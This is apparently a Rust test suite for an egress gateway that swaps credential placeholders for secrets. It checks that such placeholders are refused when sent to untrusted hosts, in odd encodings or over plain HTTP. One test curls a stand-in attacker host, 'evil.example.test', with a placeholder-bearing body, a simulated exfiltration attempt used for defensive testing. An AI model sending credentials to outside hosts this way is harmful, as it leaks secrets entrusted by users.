//! Is nothing sent where a value must not go?

use outgate_tests::prelude::*;

use super::scene::{API, JSON, Scene, chunk, chunked_head, done, key, post};

const NOT_TRUSTED: &str = "placeholder_not_trusted";

#[test]
fn what_is_not_trusted_is_refused_and_nothing_is_sent() {
    isolated(|| {
        let world = world!();
        let api = world.https(API).respond(scripts::ok("yes")).start();
        let evil = world.https("evil.example.test").respond(scripts::ok("yes")).start();
        let value = canary(40);
        let head = json!({"id": "head", "type": "environment_variable", "value": value});
        let scene = Scene::new(&world, &[key(&value), head]);
        let placeholder = scene.placeholder("KEY");
        let unknown = format!("ghp_ogph{}", "0123456789abcdef".repeat(2));
        for text in [scene.placeholder("HEAD"), placeholder[4..].to_owned(), unknown] {
            scene.refuses(post(JSON, format!("[1,\"{text}\"]")), 403, NOT_TRUSTED);
            let pieces = [chunk("[\""), chunk(&text), chunk("\"]"), b"0\r\n\r\n".to_vec()];
            let whole = [chunked_head(JSON).into_bytes(), pieces.concat()].concat();
            scene.refuses(whole, 403, NOT_TRUSTED);
        }
        for kind in ["application/octet-stream", "application/grpc", "image/png", "nonsense"] {
            let fields = format!("Content-Type: {kind}\r\n");
            scene.refuses(post(&fields, &placeholder), 403, NOT_TRUSTED);
        }
        let twice = "Content-Type: application/json\r\nContent-Type: text/plain\r\n";
        scene.refuses(post(twice, &placeholder), 403, NOT_TRUSTED);
        let stranger = scene.gateway.curl("https://evil.example.test/");
        let stranger = stranger.body(format!("{{\"k\":\"{placeholder}\"}}")).run();
        assert_eq!((stranger.status, stranger.reason()), (403, Some(NOT_TRUSTED)));
        for origin in [&api, &evil] {
            assert_eq!(origin.requests().len(), 0);
        }
        let control = scene.client().exchange(post(JSON, format!("\"{placeholder}\"")));
        assert_eq!(control.status, 200);
        assert_eq!(api.requests()[0].text(), format!("\"{value}\""));
        let control = scene.gateway.curl("https://evil.example.test/").body("nothing").run();
        assert_eq!(control.status, 200);
        for line in scene.audit(11).iter().filter(|line| line["status"] == 403) {
            assert_eq!((&line["verdict"], &line["reason"]), (&json!("deny"), &json!(NOT_TRUSTED)));
        }
        assert_secret_absent(scene.gateway.output(), &value);
    });
}

#[test]
fn a_placeholder_is_still_looked_for_when_its_credential_is_gone() {
    isolated(|| {
        let world = world!();
        let origin = world.https(API).respond(scripts::ok("yes")).start();
        let scene = Scene::new(&world, &[key("value")]);
        let body = format!("\"{}\"", scene.placeholder("KEY"));
        assert_eq!(scene.client().exchange(post(JSON, &body)).status, 200);
        done(&scene.gateway, "DELETE", "credentials/key", &json!(null));
        scene.refuses(post(JSON, &body), 403, NOT_TRUSTED);
        done(&scene.gateway, "POST", "credentials", &key("another"));
        scene.refuses(post(JSON, &body), 403, NOT_TRUSTED);
        assert_eq!(origin.requests().len(), 1);
        assert_eq!(scene.client().exchange(post(JSON, "{}")).status, 200);
    });
}

#[test]
fn what_is_compressed_is_refused_where_a_value_could_go() {
    isolated(|| {
        let world = world!();
        let origin = world.https(API).respond(scripts::ok("yes")).start();
        let other = world.https("evil.example.test").respond(scripts::ok("yes")).start();
        let scene = Scene::new(&world, &[key("value")]);
        for coding in ["gzip", "identity, br", "GZIP", "aws-chunked, gzip"] {
            let fields = format!("{JSON}Content-Encoding: {coding}\r\n");
            scene.refuses(post(&fields, "\x1f\x02"), 415, "encoded_body");
        }
        assert_eq!(origin.connections(), 0);
        let fields = format!("{JSON}Content-Encoding: identity\r\n");
        assert_eq!(scene.client().exchange(post(&fields, "{}")).status, 200);
        let get = format!("GET / HTTP/1.1\r\nHost: {API}\r\nContent-Encoding: gzip\r\n\r\n");
        assert_eq!(scene.client().exchange(get).status, 200);
        // No value goes there, so that nothing has to be read.
        let fetch = scene.gateway.curl("https://evil.example.test/");
        let fetch = fetch.header("content-encoding", "gzip").body("\x1f\x02").run();
        assert_eq!(fetch.status, 200);
        assert_eq!(other.requests()[0].body, b"\x1f\x02");
    });
}

#[test]
fn a_value_goes_over_tls_unless_its_entry_allows_otherwise() {
    isolated(|| {
        let world = world!();
        let api = world.http(API).respond(scripts::ok("yes")).start();
        let plain = world.http("a.ok.example.test").respond(scripts::ok("yes")).start();
        let scene = Scene::new(&world, &[key("value")]);
        let placeholder = scene.placeholder("KEY");
        let ask = |name: &str| {
            let curl = scene.gateway.curl(&format!("http://{name}/"));
            curl.body(format!("k={placeholder}")).run()
        };
        assert_eq!(ask(API).reason(), Some("injection_needs_tls"));
        assert_eq!(api.requests().len(), 0);
        assert_eq!(ask("a.ok.example.test").status, 200);
        assert_eq!(plain.requests()[0].text(), "k=value");
    });
}

#[test]
fn a_body_that_stops_before_its_end_is_waited_for_no_longer_than_an_idle_tunnel() {
    isolated(|| {
        let world = world!();
        let origin = world.https(API).respond(scripts::ok("yes")).start();
        let scene = Scene::with(&world, &[key("value")], "[limits]\nidle_tunnel = \"1s\"\n");
        let whole = post(JSON, format!("[\"{}\"]", scene.placeholder("KEY")));
        let (begun, rest) = whole.split_at(whole.len() - 10);
        let mut client = scene.client();
        client.send(begun);
        let answer = client.read_response();
        let said = (answer.status, answer.header("outgate-reason"));
        assert_eq!(said, (408, Some("request_timeout")));
        assert_eq!(origin.requests().len(), 0);
        let mut slow = scene.client();
        slow.send(begun);
        std::thread::sleep(Duration::from_millis(500));
        slow.send(rest);
        assert_eq!(slow.read_response().status, 200);
    });
}

#[test]
fn what_clients_of_aws_send_in_chunks_of_their_own_passes_and_is_never_changed() {
    isolated(|| {
        let world = world!();
        let origin = world.https(API).respond(scripts::ok("yes")).start();
        let scene = Scene::new(&world, &[key("value")]);
        let fields = "Content-Type: text/plain\r\nContent-Encoding: aws-chunked\r\n";
        let body = "5\r\nhello\r\n0\r\nx-amz-checksum-crc32: NhCmhg==\r\n\r\n";
        assert_eq!(scene.client().exchange(post(fields, body)).status, 200);
        assert_eq!(origin.requests()[0].text(), body);
        scene.refuses(post(fields, scene.placeholder("KEY")), 403, NOT_TRUSTED);
        assert_eq!(origin.requests().len(), 1);
    });
}
